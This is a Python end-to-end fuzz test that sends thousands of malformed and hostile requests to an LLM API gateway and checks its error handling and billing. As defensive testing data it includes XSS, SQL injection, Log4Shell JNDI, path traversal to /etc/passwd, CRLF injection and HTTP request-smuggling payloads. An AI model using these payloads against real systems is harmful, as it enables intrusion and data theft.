"""Thousands of malformed or hostile requests against the running gateway: never a 5xx, every
error in the OpenAI envelope with an `x-transaction-id`, no charge for a rejected request, and
the platform still serving afterwards.

Two generators:
- schemathesis, from the gateway's OpenAPI description (`regio_gateway.openapi`): requests that
  break the documented schema (negative mode), and a few valid ones (positive mode);
- a hypothesis strategy of what the schema cannot express: invalid JSON, wrong content types,
  deep or huge values, unicode junk, odd `Authorization` and `Host` headers, out-of-range
  parameters, too many items, oversized bodies, duplicate keys and headers, malformed HTTP.

Credit: the requests come with the key of a fresh account holding 1 EUR, so that a request
wrongly charged would show. Every JSON body that could be valid is made cheap before it is sent
(`max_tokens` ≤ 4; the model is a real llama.cpp worker), so the few valid ones cost fractions
of a cent and about a quarter of a second each. Charges are matched to answers by transaction id.

Client addresses: each connection comes from a loopback address of its own every few requests
(Linux routes all of 127.0.0.0/8 to lo), as from many clients: the gateway throttles failed
authentications per address, and this run is about inputs, not about that throttle (tested in
test_edge_protections.py); it also leaves the session's 127.0.0.1 budget to the other tests."""

from __future__ import annotations

import contextlib
import http.client
import json
import socket
import time
import urllib.error
import urllib.request
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import openai
import pytest
import requests
import schemathesis
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hypothesis.errors import Unsatisfiable
from requests.adapters import HTTPAdapter
from schemathesis import GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.core.result import Ok
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from regio_devstack.stack import Stack
from regio_gateway.openapi import build_document
from regio_gateway.protocol.chat_completion import ChatCompletionRequest
from regio_gateway.protocol.text_completion import TextCompletionRequest
from tests.e2e.helpers import wait_until_key_known

CHAT = "/v1/chat/completions"
COMPLETIONS = "/v1/completions"  # the legacy endpoint: served and charged like a chat
MODELS = "/v1/models"
CHEAP_MAX_TOKENS = 4
# Examples per generator: together over 5,000 requests, mostly refused within milliseconds.
SCHEMATHESIS_EXAMPLES = {
    ("POST", GenerationMode.NEGATIVE): 1500,
    ("POST", GenerationMode.POSITIVE): 30,
    ("GET", GenerationMode.POSITIVE): 10,
}
HOSTILE_EXAMPLES = 3600
HOSTILE_VALID_EXAMPLES = 40
SCHEMATHESIS_CHECKS = [
    not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
    response_headers_conformance,
]
NASTY_STRINGS = [
    "",
    "\x00",
    "a\x00b",
    "\ud800",  # a lone surrogate: valid JSON (as an escape), not encodable as UTF-8
    "\udfff\ud800",
    "\u202e\u2066evil",
    "\ufeff\u200b\u200d",
    "e\u0301" * 200,
    "🤖" * 300,
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594",  # "Hello" in fraktur
    "<script>alert(1)</script>",
    "'; DROP TABLE billing.holds; --",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}%s%n%x",
    "../../../../etc/passwd",
    "\r\nX-Injected: 1",
    '"},"model":"other',
    "\\u0000",
    "null",
    "A" * 20_000,
]
FLOAT_EXTREMES = [float("nan"), float("inf"), float("-inf"), 1e308, -1e308, 5e-324]
HUGE_INTEGERS = [2**31, 2**63, 2**64, 2**70, -(2**63) - 1, 10**400]
# Out of range for max_tokens (a huge positive one is valid: clamped to the route maximum).
HUGE_NEGATIVE_INTEGERS = [-(2**31), -(2**63) - 1, -(10**400)]


def junk_text() -> st.SearchStrategy[str]:
    # Any code point, lone surrogates included.
    return st.sampled_from(NASTY_STRINGS) | st.text(st.characters(codec=None), max_size=40)


def dumps(payload: Any) -> bytes:
    """JSON as a client may send it: NaN/Infinity literals and lone surrogates (as escapes)
    are Python's defaults."""
    return json.dumps(payload).encode()


def make_cheap(payload: Any) -> Any:
    """A body the gateway would accept asks for at most CHEAP_MAX_TOKENS tokens (judged by the
    gateway's own request model, lax coercions included: `"max_tokens": "900"` is valid)."""
    if not isinstance(payload, dict):
        return payload
    try:
        request: ChatCompletionRequest | TextCompletionRequest = (
            TextCompletionRequest.model_validate(payload)
            if "prompt" in payload
            else ChatCompletionRequest.model_validate(payload)
        )
    except (ValueError, RecursionError):  # refused before any generation
        return payload
    requested = (
        getattr(request, "max_completion_tokens", None) or request.max_tokens or CHEAP_MAX_TOKENS
    )
    payload["max_tokens"] = min(requested, CHEAP_MAX_TOKENS)
    if "max_completion_tokens" in payload:
        payload["max_completion_tokens"] = payload["max_tokens"]
    return payload


def asks_json_mode(payload: Any) -> bool:
    """JSON mode: an answer cut by max_tokens before its JSON is complete is not charged."""
    if not isinstance(payload, dict):
        return False
    response_format = payload.get("response_format")
    return isinstance(response_format, dict) and response_format.get("type") in (
        "json_object",
        "json_schema",
    )


def base_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "model": "liv",
        "messages": [{"role": "user", "content": "Hi"}],
        "max_tokens": CHEAP_MAX_TOKENS,
    }
    body.update(changes)
    return body


# -- sending ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Probe:
    """One hostile request. `raw` is a complete request as sent (for malformed HTTP)."""

    family: str
    body: bytes = b""
    method: str = "POST"
    target: str = CHAT
    authorization: bytes | None = b""  # b"": the fuzz account's valid key
    host: bytes | None = b"localhost"
    content_type: bytes | None = b"application/json"
    headers: tuple[tuple[bytes, bytes], ...] = ()
    raw: bytes | None = None
    json_mode: bool = False

    def to_bytes(self, key: str) -> bytes:
        if self.raw is not None:
            return self.raw
        lines = [f"{self.method} {self.target} HTTP/1.1".encode()]
        if self.host is not None:
            lines.append(b"Host: " + self.host)
        if self.authorization is not None:
            lines.append(b"Authorization: " + (self.authorization or f"Bearer {key}".encode()))
        if self.content_type is not None:
            lines.append(b"Content-Type: " + self.content_type)
        lines += [name + b": " + value for name, value in self.headers]
        framed = {name.lower() for name, _ in self.headers}
        if not framed & {b"content-length", b"transfer-encoding"}:
            lines.append(b"Content-Length: " + str(len(self.body)).encode())
        lines.append(b"Connection: close")
        return b"\r\n".join(lines) + b"\r\n\r\n" + self.body


@dataclass(frozen=True)
class Answer:
    status: int
    headers: dict[str, str]  # names in lower case
    body: bytes


class LoopbackClients:
    """Source addresses in 127.0.0.0/8, each used for a few connections."""

    def __init__(self, second_octet: int, connections_each: int = 4) -> None:
        self._second_octet = second_octet
        self._connections_each = connections_each
        self._connections = 0

    def next(self) -> str:
        index = self._connections // self._connections_each
        self._connections += 1
        return f"127.{self._second_octet}.{index // 250 % 250}.{index % 250 + 1}"


def exchange(port: int, source: str, raw: bytes, method: str) -> Answer | None:
    """Sends `raw` on a new connection and reads the answer; None when none came."""
    with socket.create_connection(("127.0.0.1", port), timeout=60, source_address=(source, 0)) as s:
        with contextlib.suppress(OSError):
            s.sendall(raw)  # the gateway may answer and close before reading a hostile body
        response = http.client.HTTPResponse(s, method=method)
        try:
            response.begin()
            body = response.read()
        except (http.client.HTTPException, OSError):
            return None
        return Answer(
            response.status, {name.lower(): value for name, value in response.getheaders()}, body
        )


# -- judging ----------------------------------------------------------------------------------
def envelope_problem(body: bytes) -> str | None:
    try:
        payload = json.loads(body)
    except ValueError:
        return "not JSON"
    error = payload.get("error") if isinstance(payload, dict) else None
    if not isinstance(error, dict):
        return "no error object"
    if not (isinstance(error.get("message"), str) and error["message"]):
        return "no error.message"
    if not isinstance(error.get("type"), str) or "code" not in error or "param" not in error:
        return "error.type, error.code or error.param missing"
    if "Traceback" in error["message"]:
        return "a stack trace"
    return None


def is_error_event(event: str) -> bool:
    with contextlib.suppress(ValueError):
        payload = json.loads(event)
        return isinstance(payload, dict) and "error" in payload
    return False


def stream_events(body: bytes) -> list[str]:
    return [
        line[6:] for line in body.decode(errors="replace").splitlines() if line.startswith("data: ")
    ]


@dataclass
class FuzzLedger:
    """Counts every answer and collects every broken promise, grouped by family and kind with
    one example each (rather than stopping at the first, so that a run reports them all)."""

    statuses: Counter[int] = field(default_factory=Counter)
    families: Counter[str] = field(default_factory=Counter)
    seconds: dict[str, float] = field(default_factory=dict)
    problems: Counter[str] = field(default_factory=Counter)
    examples: dict[str, str] = field(default_factory=dict)
    # transaction ids of 2xx chat (and legacy text) completions
    served: set[str] = field(default_factory=set)
    uncharged_by_design: set[str] = field(default_factory=set)  # JSON mode, stream errors

    def record(
        self,
        family: str,
        sent: str,
        answer: Answer | None,
        *,
        method: str,
        chat: bool,
        json_mode: bool,
        seconds: float,
    ) -> None:
        self.families[family] += 1
        self.seconds[family] = self.seconds.get(family, 0.0) + seconds
        if answer is None:
            self.statuses[0] += 1
            self.problem(family, "no answer", sent)
            return
        self.statuses[answer.status] += 1
        for problem in self._problems(answer, method):
            self.problem(family, f"{answer.status} {problem}", f"{sent} -> {answer.body[:300]!r}")
        transaction = answer.headers.get("x-transaction-id", "")
        if 200 <= answer.status < 300 and chat:
            self.served.add(transaction)
            if json_mode or any(is_error_event(event) for event in stream_events(answer.body)):
                self.uncharged_by_design.add(transaction)

    def problem(self, family: str, kind: str, example: str) -> None:
        signature = f"{family}: {kind}"
        self.problems[signature] += 1
        self.examples.setdefault(signature, example[:700])

    def report(self) -> str:
        return "\n".join(
            f"{count} x {signature}\n    e.g. {self.examples[signature]!r}"
            for signature, count in self.problems.most_common()
        )

    def _problems(self, answer: Answer, method: str) -> list[str]:
        problems = []
        if answer.status >= 500:
            problems.append("server error")
        if not answer.headers.get("x-transaction-id"):
            problems.append("no x-transaction-id")
        if answer.status >= 300 and method != "HEAD":
            problem = envelope_problem(answer.body)
            if problem is not None:
                problems.append(f"no envelope ({problem})")
        if answer.headers.get("content-type", "").startswith("text/event-stream"):
            events = stream_events(answer.body)
            if not events or events[-1] != "[DONE]":
                problems.append("a stream without its final [DONE]")
            if any(is_error_event(e) and envelope_problem(e.encode()) for e in events):
                problems.append("a stream error without the envelope")
        return problems

    @property
    def total(self) -> int:
        return sum(self.statuses.values())


# -- hostile requests the schema cannot express -----------------------------------------------
def invalid_json() -> st.SearchStrategy[Probe]:
    valid = dumps(base_body())
    fixed = st.sampled_from(
        [
            b"{",
            b"}",
            b"null",
            b"[]",
            b"42",
            b'"a string"',
            b"{'model': 'liv'}",
            b'{"model": "liv",}',
            b'{"model": "liv" "messages": []}',
            b"{/* comment */}",
            b"\xef\xbb\xbf" + valid,  # a UTF-8 byte order mark
            valid + b"{}",
            valid + b"\x00",
            valid.decode().encode("utf-16"),
            b'{"model": "\xff\xfe"}',  # not UTF-8
            b'{"model": "liv", "messages": [{"role": "user", "content": "\xc0\xaf"}]}',
            b'{"temperature": NaN, "model": "liv"}',
            b"\x00" * 64,
            b" " * 1000,
        ]
    )
    truncated = st.integers(1, len(valid) - 1).map(lambda cut: valid[:cut])
    noise = st.binary(min_size=1, max_size=300)
    return st.one_of(fixed, truncated, noise).map(lambda body: Probe("invalid_json", body))


def wrong_content_type() -> st.SearchStrategy[Probe]:
    body = st.sampled_from(
        [
            dumps(base_body(model="no-such-model")),
            b"model=liv&messages=hi",
            b"--x\r\nContent-Disposition: form-data; name=model\r\n\r\nliv\r\n--x--\r\n",
            b"<xml><model>liv</model></xml>",
            dumps(base_body(messages=[])),
            dumps(base_body()),  # valid JSON behind a wrong label: the gateway reads JSON
        ]
    )
    content_type = st.sampled_from(
        [
            None,
            b"text/plain",
            b"application/x-www-form-urlencoded",
            b"multipart/form-data; boundary=x",
            b"application/xml",
            b"application/json; charset=utf-16",
            b"application/octet-stream",
            b"*/*",
            b"application/json" * 100,
        ]
    )
    return st.builds(
        lambda body, kind: Probe("content_type", body, content_type=kind), body, content_type
    )


def nested(depth: int, leaf: Any = 1, as_list: bool = False) -> bytes:
    if as_list:
        return b"[" * depth + dumps(leaf) + b"]" * depth
    return b'{"a":' * depth + dumps(leaf) + b"}" * depth


def huge_or_deep() -> st.SearchStrategy[Probe]:
    def in_field(name: str, raw_value: bytes) -> bytes:
        rest = {key: value for key, value in base_body().items() if key != name}
        return dumps(rest)[:-1] + b', "' + name.encode() + b'": ' + raw_value + b"}"

    depth = st.sampled_from([64, 500, 1000, 5000, 100_000])
    field_name = st.sampled_from(
        ["reasoning", "tools", "tool_choice", "stop", "messages", "model", "response_format"]
    )
    deep = st.builds(
        lambda name, d, as_list: in_field(name, nested(d, as_list=as_list)),
        field_name,
        depth,
        st.booleans(),
    )
    deep_schema = depth.map(
        lambda d: in_field(
            "response_format",
            b'{"type": "json_schema", "json_schema": {"name": "x", "schema": ' + nested(d) + b"}}",
        )
    )
    whole_body_deep = depth.map(lambda d: nested(d, as_list=True))
    # Negative for max_tokens: a huge positive one is valid (clamped to the route's maximum).
    huge_number = st.builds(
        lambda name, digits: in_field(
            name, (b"-" if name == "max_tokens" else b"") + b"9" * digits
        ),
        st.sampled_from(["max_tokens", "temperature", "seed", "n", "top_p"]),
        st.sampled_from([20, 400, 4300, 5000, 100_000]),
    )
    huge_float = st.builds(
        lambda name, text: in_field(name, text),
        st.sampled_from(["temperature", "top_p", "presence_penalty", "seed", "max_tokens"]),
        st.sampled_from([b"1e999", b"-1e999", b"1e-999", b"Infinity", b"-Infinity", b"NaN"]),
    )
    long_string = st.builds(
        lambda name, size: dumps(base_body(**{name: "x" * size})),
        st.sampled_from(["model", "user", "reasoning_effort", "tool_choice"]),
        st.sampled_from([10_000, 500_000]),
    )
    many_keys = st.sampled_from([1000, 40_000]).map(
        lambda n: dumps(base_body(model="no-such-model") | {f"k{i}": i for i in range(n)})
    )
    return st.one_of(
        deep, deep_schema, whole_body_deep, huge_number, huge_float, long_string, many_keys
    ).map(lambda body: Probe("huge_or_deep", body))


def unicode_junk() -> st.SearchStrategy[Probe]:
    """Junk where it makes the request invalid (valid placements: `hostile_valid`)."""
    placements: list[Callable[[str], dict[str, Any]]] = [
        lambda junk: base_body(model=junk),
        lambda junk: base_body(models=[junk, "no-such-model"], model=None),
        lambda junk: base_body(messages=[{"role": junk, "content": "Hi"}]),
        lambda junk: base_body(model="no-such-model", **{"x" + junk: junk}),
        lambda junk: base_body(response_format={"type": junk}),
        lambda junk: base_body(messages=[{"role": "user", "content": [{"type": junk}]}]),
    ]
    return st.builds(
        lambda place, junk, ascii_only: Probe(
            "unicode",
            json.dumps(place(junk), ensure_ascii=ascii_only).encode("utf-8", "surrogatepass"),
        ),
        st.sampled_from(placements),
        junk_text(),
        st.booleans(),
    )


def odd_authorization(key: str) -> st.SearchStrategy[Probe]:
    body = dumps(base_body(model="no-such-model"))  # an accepted key meets a 404, not a worker
    values = st.sampled_from(
        [
            None,
            b"",
            b"Bearer",
            b"Bearer ",
            b"bearer " + key.encode(),
            b"BEARER  " + key.encode() + b"  ",
            b"Bearer " + key.encode() + b"x",
            b"Bearer " + key[:-1].encode(),
            b"Bearer " + key.encode() + b" extra",
            b"Basic dXNlcjpwYXNz",
            b"Token " + key.encode(),
            key.encode(),
            b"Bearer rgm-" + b"a" * 40,
            b"Bearer " + b"A" * 8000,
            b"Bearer \xff\xfe\xfd",
            b"Bearer rg-\xc3\xa9\xc3\xa9",
            b"Bearer \x01\x02",
            b"Bearer\t" + key.encode(),
        ]
    )
    doubled = st.sampled_from(
        [
            (b"Authorization", b"Bearer rg-wrong"),
            (b"Authorization", b"Bearer " + key.encode()),
            (b"authorization", b""),
        ]
    )
    single = st.builds(lambda value: Probe("authorization", body, authorization=value), values)
    twice = st.builds(
        lambda extra, first_valid: Probe(
            "authorization",
            body,
            authorization=b"" if first_valid else b"Bearer rg-wrong",
            headers=(extra,),
        ),
        doubled,
        st.booleans(),
    )
    on_models = st.builds(
        lambda value: Probe("authorization", method="GET", target=MODELS, authorization=value),
        values,
    )
    return st.one_of(single, twice, on_models)


def odd_host() -> st.SearchStrategy[Probe]:
    hosts = st.sampled_from(
        [
            None,
            b"",
            b"de.localhost",  # activated only in eu: region_mismatch
            b"nl.example.com:443",
            b"zz.localhost",
            b"EU.LOCALHOST",
            b"eu.",
            b".eu",
            b"eu",
            b"localhost:99999",
            b"[::1]:8080",
            b"de.localhost, nl.localhost",
            b"\xc3\xa9u.localhost",
            b"a" * 7000 + b".localhost",
            b"de.localhost\x00.eu",
            b"http://de.localhost/",
        ]
    )
    models = st.builds(lambda host: Probe("host", method="GET", target=MODELS, host=host), hosts)
    chat = st.builds(
        lambda host: Probe("host", dumps(base_body(model="no-such-model")), host=host), hosts
    )
    twice = st.just(Probe("host", method="GET", target=MODELS, headers=((b"Host", b"de.x"),)))
    return st.one_of(models, models, chat, twice)


OUT_OF_RANGE: dict[str, list[Any]] = {
    "n": [0, 2, -1, 10**6, 1.5, "2", None, [1], True],
    "max_tokens": [0, -1, 1.5, "many", [4], {"a": 4}, *HUGE_NEGATIVE_INTEGERS],
    "max_completion_tokens": [0, -5, 0.5, "x"],
    "temperature": [-0.01, 2.01, 100, "hot", [0.5], *FLOAT_EXTREMES],
    "top_p": [0, -1, 1.01, 1e-400, "x", *FLOAT_EXTREMES[:3]],
    "presence_penalty": [2.1, -2.1, *FLOAT_EXTREMES[:3]],
    "frequency_penalty": [-3, 3, "x"],
    "seed": ["x", 1.5, [1], *HUGE_INTEGERS],
    "stop": [["a"] * 5, [1], [["a"]], {"a": 1}, 5, ["x" * 100_000]],
    "stream": ["maybe", 2, [True], {"a": 1}],
    "stream_options": ["x", {"include_usage": "x"}, [1]],
    "messages": [[], {}, "Hi", None, [None], [{"content": "Hi"}], [{"role": "user", "content": 5}]],
    "model": [None, "", 5, ["liv"], {"id": "liv"}, "liv" * 1000],
    "models": [[], ["a"] * 9, "liv", [5], [None]],
    "response_format": ["json", {"type": "json_schema"}, {"type": "json_object", "x": 1}, []],
    "tools": ["x", [1] * 200, {"a": 1}],
    "user": [5, ["u"], {"id": 1}],
}


def out_of_range() -> st.SearchStrategy[Probe]:
    pairs = st.sampled_from([(name, v) for name, values in OUT_OF_RANGE.items() for v in values])
    return pairs.map(lambda pair: Probe("out_of_range", dumps(base_body(**{pair[0]: pair[1]}))))


def too_many() -> st.SearchStrategy[Probe]:
    message = {"role": "user", "content": "Hi"}
    part = {"type": "text", "text": "Hi"}
    bodies = st.sampled_from(
        [
            lambda: base_body(messages=[message] * 1025),
            lambda: base_body(messages=[message] * 20_000),
            lambda: base_body(messages=[message] * 100_000),  # also over the body limit
            lambda: base_body(messages=[{"role": "user", "content": [part] * 65}]),
            lambda: base_body(messages=[{"role": "user", "content": [part] * 5000}]),
            lambda: base_body(tools=[{"type": "function"}] * 129),
            lambda: base_body(stop=["a"] * 1000),
            lambda: base_body(models=["no-such-model"] * 1000),
        ]
    )
    return bodies.map(lambda make: Probe("too_many", dumps(make())))


def oversized() -> st.SearchStrategy[Probe]:
    # Over the gateway's default REGIO_MAX_BODY_BYTES (20 MiB: room for base64 images).
    over_limit = (20 << 20) + 1
    padded = dumps(base_body())[:-1] + b" " * over_limit + b"}"
    return st.sampled_from(
        [
            Probe("oversized", padded),
            Probe("oversized", dumps(base_body(user="x" * over_limit))),
            Probe("oversized", b"{}", headers=((b"Content-Length", b"1000000000000"),)),
            Probe("oversized", b"{}", headers=((b"Content-Length", b"-1"),)),
            Probe(
                "oversized",
                b"".join(b"%x\r\n%s\r\n" % (1 << 16, b" " * (1 << 16)) for _ in range(321))
                + b"0\r\n\r\n",
                headers=((b"Transfer-Encoding", b"chunked"),),
            ),
        ]
    )


def duplicates() -> st.SearchStrategy[Probe]:
    start = b'{"model": "liv", "messages": [{"role": "user", "content": "Hi"}], '
    pairs = st.sampled_from(
        [
            b'"max_tokens": 4, "model": "liv", "model": "no-such-model"}',
            b'"max_tokens": 4, "messages": [], "max_tokens": 4}',
            b'"max_tokens": 4, "max_tokens": 0}',
            b'"max_tokens": 100000, "max_tokens": -4}',
            b'"max_tokens": 4, "temperature": 0, "temperature": 9}',
            b'"max_tokens": 4, "n": 1, "n": 5}',
            b'"max_tokens": 4, "stream": false, "stream": "yes"}',
            b'"max_tokens": 99999, "max_tokens": 4, "stream": true, "stream": false}',
        ]
    )
    duplicated_keys = pairs.map(lambda tail: Probe("duplicates", start + tail))
    header_pairs = st.sampled_from(
        [
            ((b"Content-Length", b"2"), (b"Content-Length", b"3")),
            ((b"Content-Length", b"2"), (b"Transfer-Encoding", b"chunked")),
            ((b"Transfer-Encoding", b"chunked"), (b"Transfer-Encoding", b"identity")),
            ((b"Content-Type", b"text/plain"), (b"Content-Type", b"application/json")),
        ]
    )
    duplicated_headers = header_pairs.map(
        lambda headers: Probe("duplicates", b"{}", headers=headers)
    )
    return duplicated_keys | duplicated_headers


def malformed_http(key: str) -> st.SearchStrategy[Probe]:
    auth = f"Authorization: Bearer {key}\r\n".encode()

    def raw(text: bytes) -> Probe:
        return Probe("http", raw=text, method=text.split(b" ", 1)[0].decode("latin-1"))

    requests_sent = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET " + CHAT.encode() + b" HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"DELETE /v1/models HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
        b"BREW /v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST /v1/chat/completions HTTP/9.9\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
        b"POST /v1/chat/completions\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64,  # a TLS hello
        b"GET /v1/models?" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Long: " + b"b" * 9000 + b"\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\n" + b"X-Many: 1\r\n" * 200 + b"\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\nBad Header: 1\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Ctl: a\x01b\r\n\r\n",
        b"GET /v1/models HTTP/1.1\nHost: x\n" + auth.replace(b"\r\n", b"\n") + b"\n",
        b"GET /v1/models/ HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"GET /V1/MODELS HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"GET //v1//models HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"GET /v1/models/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/models?x=%ff%00 HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"GET /%00 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http://evil.example/v1/models HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"HEAD /v1/models HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
        + auth
        + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
        + auth
        + b"Content-Length: abc\r\n\r\n{}",
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
        + auth
        + b"Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{}",
        b"POST /v1/chat/completions HTTP/1.0\r\n" + auth + b"Content-Length: 2\r\n\r\n{}",
    ]
    return st.sampled_from(requests_sent).map(raw)


def hostile_probes(key: str) -> st.SearchStrategy[Probe]:
    """The families, weighted by how many variants they have worth repeating."""
    families = [
        *[invalid_json()] * 3,
        wrong_content_type(),
        *[huge_or_deep()] * 2,
        *[unicode_junk()] * 3,
        *[odd_authorization(key)] * 3,
        *[odd_host()] * 2,
        *[out_of_range()] * 3,
        too_many(),
        oversized(),
        *[duplicates()] * 2,
        *[malformed_http(key)] * 2,
    ]
    return st.one_of(families)


def hostile_valid() -> st.SearchStrategy[Probe]:
    """Valid requests with junk where junk is allowed: they reach billing and the worker."""
    junk = junk_text()
    message = st.builds(
        lambda role, content, name: {"role": role, "content": content, "name": name},
        st.sampled_from(["system", "developer", "user", "assistant", "tool"]),
        junk | st.lists(st.builds(lambda t: {"type": "text", "text": t}, junk), max_size=4),
        st.none() | junk,
    )
    extras = st.fixed_dictionaries(
        {},
        optional={
            "temperature": st.sampled_from([0, 2, 5e-324, 1.999]),
            "top_p": st.sampled_from([5e-324, 1]),
            "presence_penalty": st.sampled_from([-2, 2]),
            "seed": st.sampled_from([0, -(2**63), 2**63 - 1]),
            "stop": st.lists(junk, max_size=4) | junk,
            "user": junk,
            "stream": st.booleans(),
            "stream_options": st.just({"include_usage": True}),
            "response_format": st.sampled_from([{"type": "text"}, {"type": "json_object"}]),
            "models": st.just(["no-such-model", "liv"]),
            "vendor_extension": st.dictionaries(junk, junk, max_size=3),
        },
    )
    return st.builds(
        lambda messages, changes: base_body(messages=messages, **changes),
        st.lists(message, min_size=1, max_size=4),
        extras,
    ).map(lambda body: Probe("hostile_valid", dumps(body), json_mode=asks_json_mode(body)))


# -- the run ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class FuzzAccount:
    account_id: str
    api_key: str


@pytest.fixture(scope="module")
def fuzz_account(stack: Stack) -> FuzzAccount:
    account_id = stack.admin("POST", "/admin/v1/accounts", {"name": f"fuzz-{time.monotonic_ns()}"})[
        "id"
    ]
    key = stack.admin("POST", f"/admin/v1/accounts/{account_id}/keys")["key"]
    stack.admin(
        "POST",
        f"/admin/v1/accounts/{account_id}/credits",
        {"amount_eur": "1", "idempotency_key": f"fuzz-{account_id}"},
    )
    stack.admin("PUT", f"/admin/v1/accounts/{account_id}/activations/liv/eu")
    wait_until_key_known(
        openai.OpenAI(base_url=stack.gateway_url + "/v1", api_key=key, max_retries=0)
    )
    return FuzzAccount(account_id, key)


def fast_settings(examples: int) -> settings:
    # No shrinking: failures are collected, not minimised; derandomised for reproducible runs.
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=True,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )


class SourceAddressAdapter(HTTPAdapter):
    def __init__(self, source: str) -> None:
        self._source = source
        super().__init__()

    def init_poolmanager(self, *args: Any, **kwargs: Any) -> None:
        kwargs["source_address"] = (self._source, 0)
        super().init_poolmanager(*args, **kwargs)


def sessions_from(clients: LoopbackClients, count: int) -> Iterator[requests.Session]:
    pool = []
    for _ in range(count):
        session = requests.Session()
        session.mount("http://", SourceAddressAdapter(clients.next()))
        pool.append(session)
    while True:
        yield from pool


def run_schemathesis(stack: Stack, account: FuzzAccount, ledger: FuzzLedger) -> None:
    schema = schemathesis.openapi.from_dict(build_document())
    headers = {"Authorization": f"Bearer {account.api_key}"}
    sessions = sessions_from(LoopbackClients(second_octet=98, connections_each=1), 32)
    operations = [r.ok() for r in schema.get_all_operations() if isinstance(r, Ok)]
    for operation in operations:
        for (method, mode), examples in SCHEMATHESIS_EXAMPLES.items():
            if operation.method.upper() == method:
                fuzz_operation(operation, mode, examples, stack, headers, sessions, ledger)


def fuzz_operation(
    operation: Any,
    mode: GenerationMode,
    examples: int,
    stack: Stack,
    headers: dict[str, str],
    sessions: Iterator[requests.Session],
    ledger: FuzzLedger,
) -> None:
    family = f"schemathesis {operation.label} {mode.value}"

    @given(case=operation.as_strategy(mode), real_model=st.booleans())
    @fast_settings(examples)
    def send(case: Any, real_model: bool) -> None:
        if isinstance(case.body, dict):
            if real_model and mode is GenerationMode.POSITIVE:
                case.body["model"] = "liv"  # else nearly every valid body names no model
            case.body = make_cheap(case.body)
        sent = f"{operation.label} {case.body!r}"[:2000]
        started = time.perf_counter()
        try:
            response = case.call(
                base_url=stack.gateway_url, session=next(sessions), headers=headers
            )
        except requests.RequestException:
            seconds = time.perf_counter() - started
            ledger.record(
                family, sent, None, method=method, chat=False, json_mode=False, seconds=seconds
            )
            return
        answer = Answer(
            response.status_code,
            {name.lower(): values[0] for name, values in response.headers.items()},
            response.content,
        )
        ledger.record(
            family,
            sent,
            answer,
            method=method,
            chat=operation.path in (CHAT, COMPLETIONS),
            json_mode=asks_json_mode(case.body),
            seconds=time.perf_counter() - started,
        )
        try:
            case.validate_response(response, checks=SCHEMATHESIS_CHECKS)
        except Exception as failure:  # collected, reported at the end
            title = str(failure).strip().splitlines()[0][:120]
            ledger.problem(family, f"schemathesis: {title}", f"{sent} -> {failure}")

    method = operation.method.upper()
    # Unsatisfiable: nothing of this operation can be invalid (it has no parameters).
    with contextlib.suppress(Unsatisfiable):
        send()


def run_hostile(
    stack: Stack,
    account: FuzzAccount,
    ledger: FuzzLedger,
    strategy: st.SearchStrategy[Probe],
    examples: int,
    clients: LoopbackClients,
) -> None:
    port = stack.config.gateway_port

    @given(probe=strategy)
    @fast_settings(examples)
    def send(probe: Probe) -> None:
        raw = probe.to_bytes(account.api_key)
        started = time.perf_counter()
        answer = exchange(port, clients.next(), raw, probe.method)
        ledger.record(
            probe.family,
            raw[:400].decode("latin-1"),
            answer,
            method=probe.method,
            chat=probe.target == CHAT and probe.raw is None,
            json_mode=probe.json_mode,
            seconds=time.perf_counter() - started,
        )

    send()


def charges_of(stack: Stack, account_id: str) -> list[dict[str, Any]]:
    charges: list[dict[str, Any]] = []
    after = ""
    while True:
        page = stack.admin("GET", f"/admin/v1/accounts/{account_id}/transactions?limit=100{after}")
        charges += [entry for entry in page["data"] if entry["kind"] == "charge"]
        if not page["has_more"]:
            return charges
        after = f"&after={page['next_cursor']}"


def balance_without_holds(stack: Stack, account_id: str, timeout: float) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while True:
        balance: dict[str, Any] = stack.admin("GET", f"/admin/v1/accounts/{account_id}/balance")
        if balance["held_nano"] == 0 or time.monotonic() > deadline:
            return balance
        time.sleep(0.2)


def ready(url: str) -> int:
